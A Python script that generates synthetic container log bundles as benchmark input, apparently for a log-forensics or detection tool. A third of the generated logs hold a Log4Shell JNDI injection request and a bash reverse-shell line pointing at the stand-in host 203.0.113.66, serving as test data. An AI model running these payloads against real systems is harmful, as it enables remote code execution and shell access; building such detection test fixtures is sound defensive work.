#!/usr/bin/env python3
"""Generate a batch of N evidence bundles for benches/batch.sh: every tenth a copy of a
bundled sample (dvwa, log4shell in turn), the rest small json-file log bundles (a third
with a Log4Shell request and a reverse shell). Deterministic.

Usage: benches/gen-batch.py N OUTDIR
"""
import json
import os
import shutil
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def line(text, time):
    return json.dumps({"log": text + "\n", "stream": "stdout", "time": time}) + "\n"


def log(i, attack):
    out = []
    for n in range(200):
        out.append(line(f'10.1.{i % 250}.{n % 250} - - [27/Nov/2026:14:{n % 60:02d}:00 +0000] '
                        f'"GET /page/{n} HTTP/1.1" 200 512 "-" "curl/8.0"',
                        f"2026-11-27T14:{n % 60:02d}:00.000000000Z"))
    if attack:
        out.append(line(f'198.18.{i // 250}.{i % 250} - - [27/Nov/2026:14:21:07 +0000] '
                        f'"GET /?q=${{jndi:ldap://203.0.113.66:1389/x{i}}} HTTP/1.1" 200 512 "-" "-"',
                        "2026-11-27T14:21:07.000000000Z"))
        out.append(line("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "2026-11-27T14:21:08.000000000Z"))
    return "".join(out)


def main():
    n, out = int(sys.argv[1]), sys.argv[2]
    os.makedirs(out, exist_ok=True)
    for i in range(n):
        if i % 10 == 0:
            sample = ["dvwa", "log4shell"][(i // 10) % 2]
            shutil.copytree(os.path.join(ROOT, "samples", sample), os.path.join(out, f"{i:04d}-{sample}"))
        else:
            d = os.path.join(out, f"{i:04d}-gen")
            os.makedirs(d)
            with open(os.path.join(d, "container-json.log"), "w") as f:
                f.write(log(i, i % 3 == 0))


main()
